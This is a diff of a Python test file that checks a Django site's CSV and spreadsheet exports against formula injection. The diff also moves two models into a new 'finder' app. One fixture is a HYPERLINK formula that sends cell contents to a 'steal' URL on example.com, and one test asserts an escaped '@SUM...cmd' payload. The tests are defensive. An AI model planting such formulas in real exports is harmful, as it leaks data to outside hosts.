@@ -17,17 +17,17 @@ from hypothesis import strategies as st
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from criteria.models import Criterion, LocalAgreement
+from finder.models import FinderSearch, LifeSituation
 from monitoring.models import Value
 from network import importing
 from network.models import Service
-from network.models_finder import FinderSearch, LifeSituation
 from toolbox_site import exports
 from toolbox_site.models import Organization
 
 from ..monitoring.fixtures import make_report
 
 FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Klik hier")'
-APPS = ("toolbox_site", "network", "criteria", "monitoring")
+APPS = ("toolbox_site", "network", "finder", "criteria", "monitoring")
 
 
 # --- The helper itself -------------------------------------------------------------------
@@ -200,6 +200,6 @@ def test_the_unmet_demand_export_neutralises_a_municipality_name(
         date=timezone.localdate(),
     )
     client.force_login(cast["twente.coordinator"])
-    response = client.get(reverse("network:unmet_demand_csv"))
+    response = client.get(reverse("finder:unmet_demand_csv"))
     assert response.status_code == 200
     assert ";'@SUM(1+1)*cmd;" in response.content.decode("utf-8-sig")
